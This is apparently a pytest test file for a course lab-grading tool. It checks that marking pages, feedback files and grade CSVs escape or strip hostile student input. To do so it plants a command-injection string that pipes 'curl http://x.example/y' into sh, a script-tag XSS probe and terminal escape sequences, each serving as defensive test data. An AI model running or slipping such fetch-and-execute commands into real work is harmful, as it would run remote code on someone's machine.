"""The page to mark from and the one to send back: what stands in them, and what never does."""

import json
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
from command_line import call_lab
from example_class import copy_run
from html_page import Page, check_page

from measuretwice.grading.results import marking_minutes
from measuretwice.grading.rubric import read_key
from measuretwice.grading.text_table import csv_text
from measuretwice.lab import load_lab, read_questions
from measuretwice.report.report import make_report, render_markdown
from measuretwice.runs.remeasure import read_run

ROOT = Path(__file__).parents[2]
RUN = next(iter(sorted((ROOT / "sample-data/01-mathis/case-05-broken").glob("trial-*"))))
EVIL = "; curl http://x.example/y | sh #"


def check_file(path: Path) -> Page:
    """Check a page, and that each of its links leads to something that is there."""
    page = check_page(path.read_text(encoding="utf-8"))
    for link in page.links:
        name, _, anchor = link.partition("#")
        target = (path.parent / name) if name else path
        assert target.exists(), link
        if anchor:
            assert f'id="{anchor}"' in target.read_text(encoding="utf-8")
    return page


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two students: one with a report, a late file and lines of her own; one with nothing to read."""
    folder = tmp_path_factory.mktemp("marking")
    lab = load_lab(ROOT, "mathis")
    rows = [["Student", "ID", "SIS User ID", "SIS Login ID", "Section"], ["Lovelace, Ada", "101", "s1", "ada", ""], ["<i>Bob</i>", "102", "s2", "bob", ""]]  # fmt: skip
    (folder / "class.csv").write_text(csv_text(rows), encoding="utf-8")
    ada = folder / "in/lovelaceada_LATE_101_9_mathis"
    run = copy_run(RUN, ada / "runs/mathis", 1)
    provenance = json.loads((run / "provenance.json").read_text())
    (run / "provenance.json").write_text(json.dumps({**provenance, "command": f"./lab run{EVIL}"}))
    data = read_run(ROOT, run, run.name)
    line = data.excerpts[0].text.strip().splitlines()[-1].strip()
    goodput = data.result.measured["goodput_bps"]
    answer = f"<script>alert(1)</script>\nI saw {goodput / 1e6:.3f} Mbit/s:\n\n    {line}\n\x1b[31m`{EVIL}`"  # type: ignore[operator]
    report = make_report(
        [data], title=None, author=None, made=datetime(2026, 1, 1, tzinfo=UTC),
        answers={read_questions(lab)[5]: answer},
    )  # fmt: skip
    (ada / "report.md").write_text(render_markdown(report), encoding="utf-8")
    (folder / "in/bob").mkdir()
    done = call_lab("grade", folder / "in", "--roster", folder / "class.csv", "--lab", "mathis")
    assert done.returncode == 1, done.stderr
    assert EVIL not in done.stdout
    assert "\x1b" not in done.stdout
    return folder / "in-grades"


def test_the_page_to_mark_from(graded: Path) -> None:
    page = check_file(graded / "marking/s1-lovelaceada.html")
    text = page.text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    # The answer's own line of ss is marked, with the file that it stands in; so is its number.
    assert len(re.findall(r"<mark>", text)) >= 1
    assert "stands in lovelaceada_LATE_101_9_mathis" in text or "stands in runs/mathis" in text
    assert re.search(r"<dd>as goodput_bps = ", text)
    # Beside it: the key, what earns how much, and what was measured.
    assert "12 bytes named as the option" in text
    assert "<b>1.5</b> Run again" in text
    assert "<dt>Measured</dt>" in text
    assert re.search(r'class="badge late">late<', text)
    assert any(link.startswith("../reports/s1-lovelaceada.html#run-") for link in page.links)
    assert any(link.startswith("../../in/lovelaceada_LATE") for link in page.links)
    assert re.search(r"<dd>[0-9]+ min</dd>", text)


def test_no_command_of_a_student_is_one_to_run(graded: Path) -> None:
    """In the answer it is text; anywhere else a command is made of the plan."""
    text = (graded / "marking/s1-lovelaceada.html").read_text()
    commands = re.findall(r"<code>(\./lab run[^<]*)</code>", text)
    assert commands == ["./lab run mathis --trial 9 --pitfall mtu --stage broken --seed 1"]
    assert EVIL.replace("&", "&amp;") not in (graded / "reports/s1-lovelaceada.html").read_text()
    check_file(graded / "reports/s1-lovelaceada.html")


def test_nobody_elses_page(graded: Path) -> None:
    page = check_file(graded / "marking/s2-ibobi.html")
    assert "&lt;i&gt;Bob&lt;/i&gt;" in page.text
    assert not (graded / "reports/s2-ibobi.html").exists()
    assert not (graded / "reports/s1-lovelaceada.html").is_symlink()


def test_what_goes_back_tells_no_cause_and_nobody_elses_name(graded: Path) -> None:
    """It stands under the name by which Canvas takes it, and holds neither key nor finding."""
    page = check_file(graded / "feedback/lovelaceada_LATE_101_9_feedback.html")
    bare = re.sub(r"(?s)<style>.*?</style>", "", page.text)
    lab = load_lab(ROOT, "mathis")
    without_answer = re.sub(r'(?s)<div class="answer">.*?</div>', "", bare)
    questions = " ".join(read_questions(lab))
    for pitfall in lab.file.pitfalls:
        assert pitfall.hints[-1] not in bare
        if pitfall.id not in questions:
            assert not re.search(rf"\b{pitfall.id}\b(?!-)", without_answer), pitfall.id
    assert "Full marks" not in bare
    assert "Bob" not in bare
    assert "Case 5: " in bare


def test_a_cell_is_empty_where_nothing_could_be_read(graded: Path) -> None:
    rows = (graded / "grades-for-import.csv").read_text().splitlines()
    assert rows[2].endswith(",")
    assert rows[1].split(",")[-1] != ""


def test_minutes_grow_with_what_there_is_to_read() -> None:
    assert marking_minutes([], 0, 0) == 1
    assert marking_minutes(["word " * 1200], 0, 0) == 11
    assert marking_minutes(["word " * 1200], 10, 2) == 18


def test_every_question_of_a_rubric_has_a_key() -> None:
    for name in ("calibrate", "mathis", "buffers", "scale", "variants", "queues"):
        lab = load_lab(ROOT, name)
        key = read_key(ROOT, lab)
        assert sorted(key) == list(range(1, len(read_questions(lab)) + 1))
        assert all("Full marks" in text for text in key.values())


@pytest.mark.parametrize("command", ["check", "report", "grade", "diff"])
def test_a_name_is_no_order_to_a_terminal(tmp_path: Path, command: str) -> None:
    run = copy_run(RUN, tmp_path / "in\x1b]0;gone\x07\x1b[2J/a", 1)
    places = [run, run] if command == "diff" else [run.parent.parent]
    done = call_lab(command, *places)
    assert done.stdout + done.stderr
    assert "\x1b" not in done.stdout + done.stderr
    assert "\x07" not in done.stdout + done.stderr
